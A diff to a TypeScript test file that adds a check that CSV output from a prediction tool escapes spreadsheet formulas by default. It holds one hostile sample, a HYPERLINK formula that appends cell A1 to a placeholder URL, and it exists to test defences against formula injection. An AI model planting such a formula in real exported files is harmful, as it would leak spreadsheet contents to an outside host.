@@ -7,6 +7,7 @@ import Papa from "papaparse";
 import { expect, test } from "vitest";
 import { BaseModel } from "../../src/base/base-model";
 import { readTable } from "../../src/data/table";
+import type { FormulaCells } from "../../src/data/write-csv";
 import { predictTable } from "../../src/worker/predictions";
 import { fixtureJson, fixtureModel } from "../fixtures/reference";
 import { testExecutor } from "./executor";
@@ -68,6 +69,13 @@ test("a mixed file says of every row what its adapter says alone, on one copy of
   // Else one adapter for all would have passed as well.
   const first = names.map((name) => Number(alone.get(name)![0]!.probability));
   expect(new Set(first).size).toBe(3);
+
+  const formula = '=HYPERLINK("http://example.invalid/?x="&A1)';
+  const hostile = await readTable(new File([Papa.unparse([{ text: formula, note: "-1.5" }])], "hostile.csv"));
+  const written = async (formulas?: FormulaCells) =>
+    read(await predictTable(hostile, columns, { run: "one" }, { ...sources, formulas }))[0];
+  expect(await written()).toMatchObject({ text: `'${formula}`, note: "-1.5" });
+  expect(await written("asTheyAre")).toMatchObject({ text: formula, note: "-1.5" });
   expect(executor.memory.bytes()).toEqual(bytes);
   await comparison.release();
   model.release();
